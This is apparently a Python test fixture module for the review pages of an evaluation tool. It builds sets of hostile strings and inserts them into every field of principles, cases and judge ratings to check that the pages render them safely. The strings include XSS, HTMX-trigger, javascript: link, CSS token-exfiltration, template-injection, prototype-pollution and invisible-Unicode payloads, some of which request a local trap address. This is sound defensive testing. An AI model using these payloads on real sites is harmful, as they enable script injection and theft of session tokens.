"""Texts made to be more than text on the review pages, and items, principles and judges that are full of them."""

from collections.abc import Sequence

from tests.reporting.hostile import HOSTILE, TRAP
from tests.web.items import PRINCIPLE

from evenhand.records.canonical import content_hash
from evenhand.records.constitution import Example
from evenhand.records.message import Message
from evenhand.records.review import RevealedRating, ShownCase, ShownOutput, ShownPrinciple
from evenhand.records.scale import PAIR, OrdinalScale
from evenhand.workflows.review.judged import JudgedItem

_HTMX = (
    f"<div hx-get='{TRAP}/hx' hx-trigger='load'>x</div>",
    "<div hx-post='/undo' hx-trigger='load' hx-swap='none'>x</div>",
    "<form hx-post='/undo' hx-trigger='load'><input name=csrf></form>",
    "<div hx-on:load='window.hit=1' hx-on::after:init='window.hit=1' hx-on:htmx:load='window.hit=1'>x</div>",
    "<div hx-get='/help' hx-trigger='load' hx-vals='js:{x: window.hit=1}'>x</div>",
    "<div hx-get='/help' hx-trigger='load[window.hit=1]'>x</div>",
    f"<div data-hx-get='{TRAP}/hx' data-hx-trigger='load delay:1ms'>x</div>",
    f"<a hx-boost='true' href='{TRAP}'>x</a>",
    "<hx-partial hx-target='body'><script>window.hit=1</script></hx-partial>",
    "<template hx type='partial' hx-target='body'><img src=x onerror=window.hit=1></template>",
    "<meta name='htmx-config' content='{\"selfRequestsOnly\":false,\"allowEval\":true}'>",
    f"<div hx-ext='sse' sse-connect='{TRAP}/sse' ws-connect='{TRAP}/ws'>x</div>",
    "<div hx-preserve id='page'></div><div id='page' hx-swap-oob='true'>gone</div>",
    "<script type='text/hyperscript'>on load set window.hit to 1</script>",
    f"' hx-get='{TRAP}/hx' hx-trigger='load' x='",
    f'" hx-get="{TRAP}/hx" hx-trigger="load" x="',
)
_FORMS = (
    "</textarea><script>window.hit=1</script><textarea>",
    "</textarea></label></form></section></main><img src=x onerror=window.hit=1>",
    f"</form><form action='{TRAP}'><button autofocus>Save and next</button></form>",
    "<input name='label' value='complies' type='hidden' form='answer'>",
    "<button form='answer' formaction='/undo' autofocus>x</button>",
    "<input type='image' src='http://127.0.0.1:9/trap/i.png'>",
    "<isindex action='http://127.0.0.1:9/trap'>",
    "<a id='page'></a><form id='answer'></form><img name='getElementById'>",
    "<select autofocus onfocus=window.hit=1><option></select>",
    "<dialog open><form method=dialog>Session ended</form></dialog>",
    "<div popover id=p>x</div><button popovertarget=p>x</button>",
)
_JSON = (
    '{"a":"</script><script>window.hit=1</script>","b":[1,{"c":"<img src=x onerror=window.hit=1>"}]}',
    '{"__proto__":{"hit":1},"constructor":{"prototype":{"hit":1}}}',
    '"}\' data-keys=\'{"a":"commit"}\' x=\'',
    '","start":0,"end":9,"quote":"x"}"><script>window.hit=1</script>',
    '[["1","<svg/onload=window.hit=1>"]]',
    '{"\\u003cscript\\u003ewindow.hit=1":"\\u202e"}',
    '{"a":"\'\\"><img src=x onerror=window.hit=1>"}',
    "]]>'\"`--><!--<script>window.hit=1//",
)
_LINKS = (
    "[x](javascript:window.hit=1)",
    "[x](<javascript:window.hit=1>)",
    "[x](JaVaScRiPt:window.hit=1) [y](java&#115;cript:window.hit=1) [z](&#x6a;avascript:window.hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg/onload=window.hit=1>)",
    "![x](javascript:window.hit=1)",
    "<javascript:window.hit=1>",
    "[x][y]\n\n[y]: javascript:window.hit=1 \"' onmouseover='window.hit=1\"",
    f"[![x]({TRAP}/n.png)]({TRAP})",
    f'![x]({TRAP}/t.png "a\\" onerror=\\"window.hit=1")',
    f"<{TRAP}/auto>",
    f"[x]({TRAP}\"onmouseover='window.hit=1')",
    "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](//127.0.0.1:9/trap)",
    "| a |\n| :-: |\n| <img src=x onerror=window.hit=1> |",
    "```js onload=window.hit=1 'x\"\n<script>window.hit=1</script>\n```",
    '~~~"><script>window.hit=1</script>\nx\n~~~',
    "<div>\n\n**bold** <script>window.hit=1</script>\n\n</div>",
    "- a\n  - b\n    > <iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "# <img src=x onerror=window.hit=1>\n\nx <b onclick=window.hit=1>y</b>\n===",
    "&lt;img src=x onerror=window.hit=1&gt; &amp;lt; &#0; &#x202e; &NotEqualTilde;",
)
_STYLES = (
    "</style><style>*{background:url(http://127.0.0.1:9/trap/z.png)}</style>",
    "x;}body{background:url(http://127.0.0.1:9/trap/z.png)}",
    "\"style=\"position:fixed;inset:0;background:url('http://127.0.0.1:9/trap/z.png')",
    "<p style='position:fixed;inset:0;z-index:99;background:red'>covered</p>",
    "<font face='x' color='red'><center><blink>x",
    "<style>.commit{display:none}#answers{visibility:hidden}</style>",
    "<style>input[name=csrf][value^=a]{background:url(http://127.0.0.1:9/trap/a)}</style>",
)
_TEMPLATES = (
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1} `${window.hit=1}` #{window.hit=1}",
    "{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}",
    "{{ settings }}{{ csrf }}{{ item }}",
    "[[${window.hit=1}]] <%= window.hit=1 %> {{{window.hit=1}}}",
    "<div v-html='window.hit=1' x-data x-init='window.hit=1' ng-init='window.hit=1'>x</div>",
)
_UNSEEN = (
    "\x00<script>\x00window.hit=1</script>",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "\u202e>tpircs/<1=tih.wodniw>tpircs<",
    "\u2066\u2067\u2068" * 40 + "x",
    "\u200b" * 300 + "<img src=x onerror=window.hit=1>",
    "a\u0345" + "\u0300\u0301\u0302" * 300,
    "\ufeff\u00ad\u180e\u3164\uffa0x",
    "\ufffe\uffff\U0010ffff",
)

SMALL: Sequence[str] = (*HOSTILE, *_HTMX, *_FORMS, *_JSON, *_LINKS, *_STYLES, *_TEMPLATES, *_UNSEEN)
"""Payloads that several pages can hold at once."""

HUGE: Sequence[str] = (
    "A" * 1_000_000,
    "<img src=x onerror=window.hit=1>" * 31_250,
    "word " * 200_000,
    "\n" * 100_000,
    "> " * 20_000 + "x",
    "[" * 50_000,
    "*a **b " * 20_000,
    "`" * 50_000,
    "<script>window.hit=1</script>\n" * 33_000,
    "\u202e\u200b" * 50_000,
    "| a " * 20_000 + "|\n" + "|---" * 20_000 + "|",
    "[" * 9_000 + "1" + "]" * 9_000,
    "![x](http://127.0.0.1:9/trap/m.png)\n" * 20_000,
)
"""Payloads of up to a megabyte."""


def aimed(payloads: Sequence[str], trap: str) -> list[str]:
    """Return payloads that fetch from a trap, an address such as `127.0.0.1:4711`.

    What can not be written as UTF-8 is in no file that evenhand reads.
    """
    return [each.replace("127.0.0.1:9", trap).encode("utf-8", "replace").decode() for each in payloads]


# -- Places ------------------------------------------------------------------------------------------

PLACES = (
    "prompt", "earlier turn", "candidate", "turn of a candidate", "second candidate", "reference", "case id",
    "content tag", "principle title", "principle text", "exceptions", "when it applies", "scope name", "scope value",
    "rationale", "example prompt", "example response", "example reason", "example tag", "meaning of a label",
)  # fmt: skip
"""Where a payload stands on the page of an open item."""

LATER_PLACES = ("judge", "reason", "quote", "failure", "why undecided", "comment", "flag", "reason to skip")
"""Where it stands afterwards."""


def hostile_principle(payload: str, name: str, *, pair: bool) -> ShownPrinciple:
    """Return a principle that says one thing everywhere."""
    example = Example(
        id=f"{name}.example",
        kind="violates",
        prompt=payload,
        response=payload,
        why=payload,
        sensitive=(payload,),
    )
    principle = PRINCIPLE.model_copy(
        update={
            "id": name,
            "title": payload,
            "text": payload if payload.strip() else "x",
            "exceptions": payload,
            "when": payload,
            "scope": {payload: (payload, payload)},
            "rationale": payload,
            "examples": (example, example.model_copy(update={"id": f"{name}.plain", "sensitive": ()})),
        }
    )
    scale = OrdinalScale(type="ordinal", values=("1", "2", "3"), describe=dict.fromkeys("123", payload))
    shown = PAIR if pair else scale
    return ShownPrinciple(principle=principle, scale=shown, hash=content_hash(principle.binding(shown)))


def hostile_case(payload: str, name: str, *, outputs: int) -> ShownCase:
    """Return a case that is one payload everywhere."""
    turns = tuple(Message(role="assistant" if place % 2 else "user", content=payload) for place in range(3))
    return ShownCase(
        case_id=f"{name} {payload[:400]}",
        prompt=turns,
        outputs=tuple(
            ShownOutput(id=str(place + 1), text=payload if place else turns[:2]) for place in range(outputs)
        ),
        reference=(payload, payload),
        sensitive=(payload[:200],),
    )


def hostile_judges(payload: str) -> JudgedItem:
    """Return judges who say one thing everywhere."""
    return JudgedItem(
        verdict=None,
        undecided=payload,
        ratings=(
            RevealedRating(judge=payload, label="1", reason=payload, quotes=(payload, payload)),
            RevealedRating(judge=payload, label=None, failed=payload),
            RevealedRating(judge="plain", label=payload, reason=payload),
        ),
    )
